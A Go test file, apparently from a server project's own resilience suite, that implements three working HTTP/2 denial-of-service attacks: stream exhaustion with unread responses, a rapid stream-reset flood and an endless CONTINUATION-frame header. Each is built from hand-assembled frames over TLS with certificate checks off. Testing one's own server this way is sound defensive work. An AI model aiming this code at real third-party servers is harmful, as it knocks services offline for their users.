//go:build linux

package attack

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"time"

	"parley/server/test/kit"
)

// Frames of HTTP/2, RFC 9113.
const (
	h2Headers      = 0x1
	h2Reset        = 0x3
	h2Settings     = 0x4
	h2Continuation = 0x9

	h2EndStream  = 0x1
	h2EndHeaders = 0x4
)

// h2 is a connection of HTTP/2 whose streams may carry nothing to the client.
type h2 struct{ net.Conn }

func (s *siege) h2(n int) (*h2, error) {
	conn, err := s.tcp(n)
	if err != nil {
		return nil, err
	}
	secured := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	ctx, cancel := context.WithTimeout(s.ctx, kit.Patience)
	defer cancel()
	if err := secured.HandshakeContext(ctx); err != nil {
		conn.Close()
		return nil, err
	}
	c := &h2{secured}
	io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	const window = 4
	c.frame(h2Settings, 0, 0, []byte{0, window, 0, 0, 0, 0})
	return c, nil
}

func (c *h2) frame(kind, flags byte, stream uint32, payload []byte) error {
	_, err := c.Write(appendFrame(nil, kind, flags, stream, payload))
	return err
}

func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// header is that of GET path, by the static table of RFC 7541.
func (c *h2) header(path string) []byte {
	block := append([]byte{0x82, 0x87, 0x41, 6}, "parley"...)
	return append(append(block, 0x44, byte(len(path))), path...)
}

// unreadStreams opens 20 connections from each of some addresses, with 250 streams on each. On half of them not even what the server
// says about the streams is read.
func unreadStreams(addresses int) func(s *siege) {
	return func(s *siege) {
		s.spawn(20*addresses, func(i int) {
			c, err := s.h2(i % addresses)
			if err != nil {
				s.rest(time.Second)
				return
			}
			defer s.rest(refusedPause)
			defer c.Close()
			var batch []byte
			for stream := uint32(1); stream < 500; stream += 2 {
				batch = appendFrame(batch, h2Headers, h2EndStream|h2EndHeaders, stream, c.header("/r/"+s.room))
			}
			c.Write(batch)
			if i%2 == 0 {
				io.Copy(io.Discard, c)
				return
			}
			s.waitForEnd(c.Conn.(*tls.Conn).NetConn())
		})
		s.rest(2 * time.Second)
	}
}

// resetStreams asks for pages and takes the requests back at once, 10,000 times a second on each connection: more would measure
// what the attackers cost, who share the machine.
func resetStreams(s *siege) {
	s.spawn(20, func(int) {
		c, err := s.h2(0)
		if err != nil {
			s.rest(time.Second)
			return
		}
		defer s.rest(refusedPause)
		defer c.Close()
		go io.Copy(io.Discard, c)
		header, cancelled := c.header("/r/"+s.room), []byte{0, 0, 0, 8}
		for stream := uint32(1); stream < 1<<30 && s.rest(10*time.Millisecond); {
			var batch []byte
			for range 100 {
				batch = appendFrame(batch, h2Headers, h2EndStream|h2EndHeaders, stream, header)
				batch = appendFrame(batch, h2Reset, 0, stream, cancelled)
				stream += 2
			}
			if _, err := c.Write(batch); err != nil {
				return
			}
		}
	})
}

// endlessHeaders begins a header and goes on with it for ever.
func endlessHeaders(s *siege) {
	s.spawn(20, func(int) {
		c, err := s.h2(0)
		if err != nil {
			s.rest(time.Second)
			return
		}
		defer s.rest(refusedPause)
		defer c.Close()
		go io.Copy(io.Discard, c)
		c.frame(h2Headers, h2EndStream, 1, c.header("/"))
		field := append([]byte{0, 1, 'x', 0x7f, 0x81, 0x7e}, make([]byte, 16_256)...) // a literal of 16,256 bytes
		for c.frame(h2Continuation, 0, 1, field) == nil {
		}
	})
}
